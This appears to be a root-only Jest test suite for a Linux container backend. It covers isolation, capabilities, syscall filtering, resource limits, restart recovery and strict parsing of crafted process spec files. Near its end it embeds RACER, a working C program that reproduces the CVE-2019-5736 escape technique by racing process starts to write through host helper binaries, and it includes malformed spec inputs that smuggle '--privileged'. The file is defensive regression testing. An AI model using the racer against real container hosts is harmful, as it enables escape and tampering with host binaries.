// Linux-specific behaviour of the linux backend, through the Gardener (root only).
import { execFileSync, spawn, spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { existsSync } from 'node:fs';
import { createInterface } from 'node:readline';
import { copyFile, mkdir, mkdtemp, readFile, readdir, rm, stat, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { PassThrough } from 'node:stream';
import { ContainerStoppedError, ExecutableNotFoundError, ProcessNotFoundError, silentLogger } from '@arbor/core';
import type { Container, Gardener } from '@arbor/core';
import { DEFAULT_ROOTFS } from '@arbor/images';
import { DEFAULT_HELPERS_DIR, OOM_EVENT, cgroupParentFor } from '@arbor/host';
import { describeHostContainerizerHostile } from '@arbor/host/testing';
import { describeIf, eventually } from '@arbor/testkit';
import { namespaceContainerizer } from './linux-backend-module';
import { Collector, backendFor, hostSnapshot, makeStateDir, prepareHost, removeStateDir, runToEnd, sh } from './testing/linux-test-env';

jest.setTimeout(30_000);

describeIf({ root: true })('linux backend', () => {
  let stateDir: string;
  let backend: Gardener;

  beforeAll(async () => {
    prepareHost();
    stateDir = await makeStateDir();
    backend = await backendFor(stateDir);
    await backend.start();
  });
  afterAll(async () => {
    for (const c of await backend.containers()) await backend.destroy(c.handle);
    await backend.stop();
    await removeStateDir(stateDir);
  });

  describe('isolation', () => {
    it('runs pid 1 as the init, and host processes are invisible', async () => {
      const c = await backend.create({});
      const { code, stdout } = await runToEnd(c, sh('cat /proc/1/comm; ls /proc | grep "^[0-9]" | wc -l'));
      expect(code).toBe(0);
      const [comm, count] = stdout.trim().split('\n');
      expect(comm).toBe('arbor-init');
      // the init, sh, ls, grep and wc at most: nothing of the host's
      expect(Number(count)).toBeLessThanOrEqual(5);
    });

    it('cannot reach the host root', async () => {
      const marker = `/arbor-host-marker-${process.pid}`;
      await writeFile(marker, 'host\n');
      try {
        const c = await backend.create({});
        const { stdout } = await runToEnd(
          c,
          sh(`test -e ${marker} && echo visible; test -e /proc/1/root${marker} && echo via-proc; cat /proc/1/mountinfo | grep -c ' / / '`),
        );
        expect(stdout).not.toContain('visible');
        expect(stdout).not.toContain('via-proc');
        expect(stdout.trim()).toBe('1');
      } finally {
        await rm(marker, { force: true });
      }
    });

    it('sets the hostname to the last 49 characters of the handle', async () => {
      const handle = `h-${'x'.repeat(20)}-${Date.now()}-${'y'.repeat(30)}`;
      const c = await backend.create({ handle });
      const { stdout } = await runToEnd(c, { path: 'hostname' });
      expect(stdout.trim()).toBe(handle.slice(-49));
    });

    it('gives two containers from one rootfs their own writes, and leaves the rootfs unchanged', async () => {
      const a = await backend.create({});
      const b = await backend.create({});
      expect((await runToEnd(a, sh('echo from-a > /etc/motd-test && rm /bin/cat; echo ok'))).stdout).toBe('ok\n');
      const seen = await runToEnd(b, sh('test -e /etc/motd-test && echo leaked; test -e /bin/cat && echo has-cat'));
      expect(seen.stdout).toBe('has-cat\n');
      await expect(readFile(join(DEFAULT_ROOTFS, 'etc', 'motd-test'))).rejects.toThrow(/ENOENT/);
    });

    it('allows /dev/null and the like, and refuses to make a disk device', async () => {
      const c = await backend.create({});
      const { stdout, stderr } = await runToEnd(
        c,
        sh('echo x > /dev/null && head -c 4 /dev/zero | wc -c; mknod /tmp/sda b 8 0 && echo made-disk; ls /dev/sda 2>/dev/null'),
      );
      expect(stdout.trim()).toBe('4');
      expect(stderr).toMatch(/mknod.*(Operation not permitted|Permission denied)/);
    });

    it('runs with the default capabilities only and no_new_privs', async () => {
      const c = await backend.create({});
      const { stdout } = await runToEnd(c, sh('grep -E "^(CapEff|CapBnd|NoNewPrivs)" /proc/self/status'));
      expect(stdout).toMatch(/NoNewPrivs:\s+1/);
      // CAP_SYS_ADMIN (bit 21) is not among them
      const eff = BigInt(`0x${/CapEff:\s+([0-9a-f]+)/.exec(stdout)?.[1] ?? '0'}`);
      expect(eff & (1n << 21n)).toBe(0n);
      expect(eff).not.toBe(0n);
    });

    it('filters system calls: no mounts, no new user namespaces; a privileged container may', async () => {
      const c = await backend.create({});
      const { stdout, stderr } = await runToEnd(c, sh('mkdir -p /mnt; unshare -U true && echo userns; mount -t tmpfs t /mnt && echo mounted; echo alive'));
      expect(stdout).toBe('alive\n');
      expect(stderr).toMatch(/unshare.*Operation not permitted/);
      expect(stderr).toMatch(/mount.*(not permitted|permission denied)/i);
      const privileged = await backend.create({ privileged: true });
      expect((await runToEnd(privileged, sh('mkdir -p /mnt; mount -t tmpfs t /mnt && echo mounted'))).stdout).toBe('mounted\n');
    });
  });

  describe('processes', () => {
    it('reports exit codes, 128+N on signal N, and a missing executable as ExecutableNotFoundError', async () => {
      const c = await backend.create({});
      expect((await runToEnd(c, sh('exit 42'))).code).toBe(42);
      expect((await runToEnd(c, sh('kill -9 $$'))).code).toBe(137);
      await expect(c.run({ path: '/bin/no-such-program' }, {})).rejects.toBeInstanceOf(ExecutableNotFoundError);
      await expect(c.run({ path: 'no-such-program' }, {})).rejects.toBeInstanceOf(ExecutableNotFoundError);
    });

    it('runs as a user from the container /etc/passwd with env, PATH and a home made if missing', async () => {
      const c = await backend.create({ env: ['FROM_CONTAINER=1', 'SHARED=container'] });
      await runToEnd(c, sh('rm -rf /home/vcap'));
      const { stdout } = await runToEnd(c, sh('id -u; id -g; pwd; echo $USER $HOME $PATH $FROM_CONTAINER $SHARED', { user: 'vcap', env: ['SHARED=process'] }));
      expect(stdout.split('\n')).toEqual(['1000', '1000', '/home/vcap', 'vcap /home/vcap /usr/local/bin:/usr/bin:/bin 1 process', '']);
      const root = await runToEnd(c, sh('echo $PATH; pwd'));
      expect(root.stdout).toBe('/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin\n/root\n');
      const numeric = await runToEnd(c, sh('id -u; id -g', { user: '1234:5678', dir: '/tmp' }));
      expect(numeric.stdout).toBe('1234\n5678\n');
    });

    it('feeds stdin and delivers stdout and stderr before the exit status', async () => {
      const c = await backend.create({});
      const stdin = new PassThrough();
      const stdout = new Collector();
      const stderr = new Collector();
      const p = await c.run(sh('cat; echo done >&2'), { stdin, stdout, stderr });
      stdin.end(Buffer.from([0, 1, 2, 255]));
      expect(await p.wait()).toBe(0);
      expect(Buffer.from(stdout.text(), 'latin1').length).toBeGreaterThan(0);
      expect(stderr.text()).toBe('done\n');
    });

    it('applies rlimits', async () => {
      const c = await backend.create({});
      const { stdout } = await runToEnd(c, sh('ulimit -n', { rlimits: { nofile: 100 } }));
      expect(stdout.trim()).toBe('100');
    });

    it('gives a TTY the asked window size and resizes it while running', async () => {
      const c = await backend.create({});
      const stdin = new PassThrough();
      const stdout = new Collector();
      const p = await c.run(sh('stty size; read line; stty size; tty', { tty: { windowSize: { columns: 100, rows: 30 } } }), { stdin, stdout });
      await eventually(() => expect(stdout.text()).toContain('30 100'), 5000, 20);
      await p.setTty({ windowSize: { columns: 120, rows: 40 } });
      stdin.write('go\n');
      expect(await p.wait()).toBe(0);
      expect(stdout.text()).toMatch(/30 100\r\n[\s\S]*40 120\r\n\/dev\/pts\/\d+\r\n/);
    });

    it('lets several clients attach; each gets the output from then on and the exit status', async () => {
      const c = await backend.create({});
      const first = new Collector();
      const p = await c.run(sh('read x; echo got $x; exit 5', { id: 'shared' }), { stdout: first, stdin: new PassThrough() });
      const second = new Collector();
      const attached = await c.attach('shared', { stdout: second, stdin: PassThrough.from(['hello\n']) });
      expect(await attached.wait()).toBe(5);
      expect(await p.wait()).toBe(5);
      expect(first.text()).toBe('got hello\n');
      expect(second.text()).toBe('got hello\n');
      await expect(c.attach('no-such-process', {})).rejects.toBeInstanceOf(ProcessNotFoundError);
    });

    it('signals a process', async () => {
      const c = await backend.create({});
      const p = await c.run(sh('sleep 100'), {});
      await p.signal('SIGTERM');
      expect(await p.wait()).toBe(143);
      await expect(p.signal('SIGKILL')).rejects.toBeInstanceOf(ProcessNotFoundError);
    });
  });

  describe('limits', () => {
    it('kills a process beyond the memory limit and shows an "out of memory" event', async () => {
      const c = await backend.create({ limits: { memory: { limitInBytes: 32 * 1024 * 1024 } } });
      expect((await c.info()).events).toEqual([]);
      const { code } = await runToEnd(c, sh('dd if=/dev/zero of=/dev/null bs=64M count=1'));
      expect(code).toBe(137);
      expect((await c.info()).events).toContain(OOM_EVENT);
      expect((await c.metrics()).memory.limitInBytes).toBe(32 * 1024 * 1024);
    });

    it('makes fork fail beyond the pids limit', async () => {
      const c = await backend.create({ limits: { pid: { max: 5 } } });
      const { stderr } = await runToEnd(c, sh('for i in 1 2 3 4 5 6; do sleep 1 & done; wait'));
      expect(stderr).toMatch(/fork|Resource temporarily unavailable/i);
      expect((await c.metrics()).pid.max).toBe(5);
    });

    it('changes limits on a live container', async () => {
      const c = await backend.create({});
      await c.limitMemory({ limitInBytes: 64 * 1024 * 1024 });
      await c.limitPids({ max: 50 });
      await c.limitCpu({ weight: 512 });
      const metrics = await c.metrics();
      expect(metrics.memory.limitInBytes).toBe(64 * 1024 * 1024);
      expect(metrics.pid.max).toBe(50);
      expect(await c.currentCpuLimits()).toEqual({ weight: 512 });
    });
  });

  describe('stop', () => {
    it('kills a process that ignores TERM after the timeout, and the container is stopped', async () => {
      const c = await backend.create({});
      const p = await c.run(sh('trap "" TERM; echo ready; while true; do sleep 1; done'), { stdout: new Collector() });
      await new Promise((r) => setTimeout(r, 200));
      const started = Date.now();
      await c.stop(false);
      expect(Date.now() - started).toBeGreaterThanOrEqual(900);
      expect(await p.wait()).toBe(137);
      expect((await c.info()).state).toBe('stopped');
      await expect(c.run(sh('true'), {})).rejects.toBeInstanceOf(ContainerStoppedError);
    });
  });

  describe('destroy', () => {
    it('leaves mounts, cgroups and processes as they were', async () => {
      const before = await hostSnapshot(stateDir);
      const c = await backend.create({ limits: { memory: { limitInBytes: 64 << 20 } } });
      await c.run(sh('sleep 100 & sleep 100'), {});
      await runToEnd(c, sh('echo hi'));
      expect((await hostSnapshot(stateDir)).cgroups.length).toBeGreaterThan(before.cgroups.length);
      await backend.destroy(c.handle);
      await backend.destroy(c.handle).catch(() => undefined);
      expect(await hostSnapshot(stateDir)).toEqual(before);
    });
  });
});

describeIf({ root: true })('linux backend: an idle arbord that stops', () => {
  it('leaves no cgroup parent, quota mount or loop device behind', async () => {
    prepareHost();
    const stateDir = await makeStateDir();
    const backend = await backendFor(stateDir);
    await backend.start();
    const c = await backend.create({});
    await runToEnd(c, sh('true'));
    await backend.destroy(c.handle);
    await backend.stop();
    const parent = cgroupParentFor('arbor', stateDir);
    for (const controller of ['memory', 'pids', 'cpu', 'devices', 'cpuset']) {
      await expect(stat(join('/sys/fs/cgroup', controller, parent))).rejects.toThrow(/ENOENT/);
    }
    expect(await readFile('/proc/self/mountinfo', 'utf8')).not.toContain(stateDir);
    expect(execFileSync('losetup', ['-j', join(stateDir, 'volumes.btrfs')], { encoding: 'utf8' })).toBe('');
    await removeStateDir(stateDir);
  });
});

describeIf({ root: true })('linux backend: a restart of arbord', () => {
  const pkg = resolve(__dirname, '..');
  let stateDir: string;

  beforeAll(async () => {
    prepareHost();
    execFileSync(resolve(pkg, '..', '..', 'node_modules', '.bin', 'tsc'), ['-p', 'tsconfig.build.json'], { cwd: pkg });
    stateDir = await makeStateDir();
  });
  afterAll(async () => {
    const backend = await backendFor(stateDir);
    await backend.start();
    for (const c of await backend.containers()) await backend.destroy(c.handle);
    await backend.stop();
    await removeStateDir(stateDir);
  });

  /** startAndKill runs a process from a separate arbord-like process, then kills that with SIGKILL. */
  async function startAndKill(script: string): Promise<string> {
    const child = spawn(process.execPath, [join(pkg, 'dist', 'testing', 'restart-child.js'), stateDir, script], {
      stdio: ['ignore', 'pipe', 'inherit'],
    });
    const line = await new Promise<string>((res, rej) => {
      createInterface({ input: child.stdout }).once('line', res);
      child.once('exit', (code) => rej(new Error(`restart-child exited ${code}`)));
    });
    child.kill('SIGKILL');
    await new Promise((r) => child.once('exit', r));
    return line.trim();
  }

  it('keeps a running process: after the restart, Attach gets its remaining output and exit status', async () => {
    const handle = await startAndKill('read x; echo after $x; exit 7');
    const backend = await backendFor(stateDir);
    await backend.start();
    const c = await backend.lookup(handle);
    expect((await c.info()).processIds).toEqual(['survivor']);
    const stdout = new Collector();
    const p = await c.attach('survivor', { stdout, stdin: PassThrough.from(['restarted\n']) });
    expect(await p.wait()).toBe(7);
    expect(stdout.text()).toBe('after restarted\n');
    await backend.destroy(handle);
  });

  it('keeps the output of a process that ended while arbord was down', async () => {
    const handle = await startAndKill('sleep 0.5; echo late; echo late-err >&2; exit 3');
    await new Promise((r) => setTimeout(r, 1000));
    const backend = await backendFor(stateDir);
    await backend.start();
    const c = await backend.lookup(handle);
    const stdout = new Collector();
    const stderr = new Collector();
    const p = await c.attach('survivor', { stdout, stderr });
    expect(await p.wait()).toBe(3);
    expect(stdout.text()).toBe('late\n');
    expect(stderr.text()).toBe('late-err\n');
    await backend.destroy(handle);
  });

  it('cleans up a container whose create did not finish', async () => {
    const backend = await backendFor(stateDir);
    await backend.start();
    const c = await backend.create({ handle: 'half-made' });
    const recordPath = join(stateDir, 'depot', 'half-made', 'record.json');
    const record = JSON.parse(await readFile(recordPath, 'utf8')) as { phase: string };
    await writeFile(recordPath, JSON.stringify({ ...record, phase: 'creating' }));
    const restarted = await backendFor(stateDir);
    await restarted.start();
    await expect(restarted.lookup(c.handle)).rejects.toThrow(/unknown handle/);
    await expect(stat(join('/sys/fs/cgroup/memory', cgroupParentFor('arbor', stateDir), 'half-made'))).rejects.toThrow(/ENOENT/);
    await expect(stat(join(stateDir, 'depot', 'half-made'))).rejects.toThrow(/ENOENT/);
    expect(await readFile('/proc/self/mountinfo', 'utf8')).not.toContain(join(stateDir, 'overlays', 'half-made'));
  });
});

/**
 * The process-start path below the Gardener, as both host runtimes share it, and arbor-exec's
 * reading of a spec file crafted by hand.
 */
describeHostContainerizerHostile(
  'linux backend',
  { root: true },
  async (stateDir) => {
    prepareHost();
    const containerizer = namespaceContainerizer({ stateDir, stopTimeoutMs: 1000 }, silentLogger);
    return { containerizer, backend: await backendFor(stateDir, {}, containerizer) };
  },
  {
    highestId: 4294967294,
    more: (under) => {
      describe('arbor-exec reads its process spec strictly', () => {
        /** record is one spec record: tag, u32 LE length, the bytes, then terminator (a NUL unless given). */
        const record = (tag: string, value: string | Buffer, length?: number, terminator = Buffer.from([0])): Buffer => {
          const bytes = Buffer.isBuffer(value) ? value : Buffer.from(value);
          const head = Buffer.alloc(5);
          head.write(tag, 0, 'latin1');
          head.writeUInt32LE(length ?? bytes.length, 1);
          return Buffer.concat([head, bytes, terminator]);
        };
        const magic = Buffer.from('ARBORPS1');
        const good = [record('p', 'sh'), record('p', '-c'), record('p', 'echo ran > /tmp/crafted')];
        let c: Container;
        let initPid: number;
        let n = 0;

        beforeAll(async () => {
          c = await under().backend.create({});
          initPid = (JSON.parse(await readFile(join(under().containerizer.dir(c.handle), 'container.json'), 'utf8')) as { initPid: number }).initPid;
        });

        /** execWith runs arbor-exec directly on a process dir holding spec (or a symlink to it). */
        async function execWith(spec: Buffer, options: { symlink?: boolean } = {}): Promise<{ code: number; stderr: string; left: string[] }> {
          const dir = join(under().containerizer.dir(c.handle), 'processes', `crafted-${++n}`);
          await mkdir(dir, { recursive: true, mode: 0o700 });
          if (options.symlink) {
            await writeFile(join(dir, 'elsewhere'), spec);
            await symlink(join(dir, 'elsewhere'), join(dir, 'process.spec'));
          } else {
            await writeFile(join(dir, 'process.spec'), spec, { mode: 0o600 });
          }
          const done = spawnSync(join(DEFAULT_HELPERS_DIR, 'arbor-exec'), ['--init-pid', String(initPid), '--dir', dir], { encoding: 'utf8' });
          return { code: done.status ?? -1, stderr: done.stderr, left: (await readdir(dir)).sort() };
        }

        it('runs a well-formed spec and removes it once read', async () => {
          const { code, left } = await execWith(Buffer.concat([magic, ...good]));
          expect(code).toBe(0);
          expect(left).not.toContain('process.spec');
          await eventually(() => expect(existsSync(join(under().containerizer.dir(c.handle), 'processes', `crafted-${n}`, 'exit'))).toBe(true), 5000, 20);
          expect((await runToEnd(c, sh('cat /tmp/crafted'))).stdout).toBe('ran\n');
        });

        it.each([
          ['a NUL inside a value', [record('e', 'X=1\u0000--privileged')], /record 3: a value holds a NUL/],
          ['a value that does not end in a NUL', [record('e', 'X=1', undefined, Buffer.from('-'))], /record 3: a value holds a NUL or does not end in one/],
          ['a record cut short', [record('e', 'X=1').subarray(0, 7)], /record 3 is cut short/],
          ['a length beyond the end', [record('e', 'X=1', 200)], /record 3 is cut short/],
          ['a byte after the last record', [Buffer.from('p')], /record 3 is cut short/],
          ['a value over the kernel limit', [record('e', `X=${'a'.repeat(131070)}`)], /record 3: a value of 131072 bytes is over the 131071 allowed/],
          ['an unknown tag', [record('x', '--privileged')], /record 3 has the unknown tag 0x78/],
          ['a second user', [record('u', 'vcap'), record('u', 'root')], /record 4: a second user/],
          ['a relative working dir', [record('d', 'tmp')], /the working dir 'tmp' is not an absolute path/],
          ['an env entry without a key', [record('e', '=x')], /env entry '=x' is not KEY=VALUE/],
          ['an env entry without =', [record('e', '--privileged')], /env entry '--privileged' is not KEY=VALUE/],
          ['an rlimit with trailing junk', [record('r', 'nofile=100x')], /'nofile=100x' is not an rlimit/],
          ['an rlimit past 2^64', [record('r', 'nofile=18446744073709551616')], /is not an rlimit/],
          ['a TTY size with junk', [record('t', '80x24x')], /'80x24x' is not a TTY size/],
        ])('refuses %s before anything is made', async (_name, extra, message) => {
          const { code, stderr, left } = await execWith(Buffer.concat([magic, ...good, ...extra]));
          expect(code).toBe(64);
          expect(stderr).toMatch(message);
          expect(left).toEqual([]);
        });

        it('refuses a spec without the magic, without a program, or behind a symlink', async () => {
          expect((await execWith(Buffer.concat([Buffer.from('ARBORPS2'), ...good]))).stderr).toMatch(/does not start with ARBORPS1/);
          expect((await execWith(Buffer.concat([magic, record('e', 'X=1')]))).stderr).toMatch(/program path is missing/);
          const linked = await execWith(Buffer.concat([magic, ...good]), { symlink: true });
          expect(linked.code).toBe(64);
          expect(linked.stderr).toMatch(/open .*process\.spec: Too many levels of symbolic links/);
        });
      });
    },
  },
);

/**
 * RACER is a container program that does what CVE-2019-5736 did to runc: it watches the pids
 * its container is about to hand out, grabs /proc/<pid>/exe of each new process with O_PATH
 * (keeping those that point at an arbor helper), and once told on stdin tries to write
 * through them. It prints "seen <pid> <target>" and "wrote <target>" lines.
 */
const RACER = String.raw`
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
static long long now_ms(void) { struct timespec t; clock_gettime(CLOCK_MONOTONIC, &t); return t.tv_sec * 1000LL + t.tv_nsec / 1000000; }
int main(int argc, char **argv) {
  long long until = now_ms() + atoll(argv[1]);
  int held[64], n = 0, self = getpid(), hi = self;
  char targets[64][256];
  setvbuf(stdout, NULL, _IONBF, 0);
  printf("racing\n");
  while (now_ms() < until) {
    for (int p = hi - 2; p <= hi + 6; p++) {
      if (p <= 1 || p == self) continue;
      char path[64], link[64], target[256];
      snprintf(path, sizeof path, "/proc/%d/exe", p);
      int fd = open(path, O_PATH | O_CLOEXEC);
      if (fd < 0) {
        if (errno != ENOENT && p > hi) hi = p;
        continue;
      }
      if (p > hi) hi = p;
      snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
      ssize_t len = readlink(link, target, sizeof target - 1);
      target[len > 0 ? len : 0] = '\0';
      if (strstr(target, "arbor") && n < 64) {
        printf("seen %d %s\n", p, target);
        snprintf(targets[n], sizeof targets[n], "%s", target);
        held[n++] = fd;
      } else {
        close(fd);
      }
    }
  }
  char go[8];
  if (read(0, go, sizeof go) < 0) return 1;
  for (int i = 0; i < n; i++) {
    char link[64];
    snprintf(link, sizeof link, "/proc/self/fd/%d", held[i]);
    int w = -1;
    for (int tries = 0; tries < 300 && w < 0; tries++) {
      w = open(link, O_WRONLY);
      if (w < 0 && errno != ETXTBSY) break;
      if (w < 0) usleep(10000);
    }
    if (w >= 0 && pwrite(w, "PWNED", 5, 0) == 5) printf("wrote %s\n", targets[i]);
    else printf("refused %s: %s\n", targets[i], strerror(errno));
  }
  return 0;
}
`;

describeIf({ root: true })('linux backend: a container racing process starts for /proc/<pid>/exe (CVE-2019-5736 class)', () => {
  it('never reaches the helper binary of a starting process, so cannot write through it', async () => {
    prepareHost();
    const work = await mkdtemp(join(tmpdir(), 'arbor-racer-'));
    const stateDir = await makeStateDir();
    const backend = await backendFor(stateDir);
    await backend.start();
    // the runs under test use a copy of the helpers that nothing else runs: once they are done
    // the copy is not busy (ETXTBSY), as runc's binary was not in the CVE
    const helpersDir = join(work, 'helpers');
    await mkdir(join(work, 'racer'), { recursive: true });
    await mkdir(helpersDir);
    for (const name of await readdir(DEFAULT_HELPERS_DIR)) await copyFile(join(DEFAULT_HELPERS_DIR, name), join(helpersDir, name));
    await writeFile(join(work, 'racer', 'racer.c'), RACER);
    execFileSync('gcc', ['-static', '-O2', '-o', join(work, 'racer', 'racer'), join(work, 'racer', 'racer.c')]);
    const digest = async () =>
      createHash('sha256')
        .update(await readFile(join(helpersDir, 'arbor-exec')))
        .digest('hex');
    const before = await digest();
    const underTest = namespaceContainerizer({ stateDir, helpersDir }, silentLogger);
    try {
      const c = await backend.create({ bindMounts: [{ srcPath: join(work, 'racer'), dstPath: '/racer', mode: 'rw', origin: 'host' }] });
      const out = new Collector();
      const stdin = new PassThrough();
      const racer = await c.run({ path: '/racer/racer', args: ['4000'] }, { stdout: out, stdin });
      await eventually(() => expect(out.text()).toContain('racing'), 5000, 20);
      const started = Date.now();
      for (let i = 0; Date.now() - started < 3000; i++) {
        await (await underTest.run(c.handle, { id: `start-${i}`, path: 'true' }, {})).wait();
      }
      await underTest.close();
      stdin.end('go\n');
      expect(await racer.wait()).toBe(0);
      expect([
        ...new Set(
          out
            .text()
            .split('\n')
            .filter((line) => /^(seen|wrote)/.test(line)),
        ),
      ]).toEqual([]);
      expect(await digest()).toBe(before);
    } finally {
      for (const c of await backend.containers()) await backend.destroy(c.handle);
      await backend.stop();
      await removeStateDir(stateDir);
      await rm(work, { recursive: true, force: true });
    }
  });
});
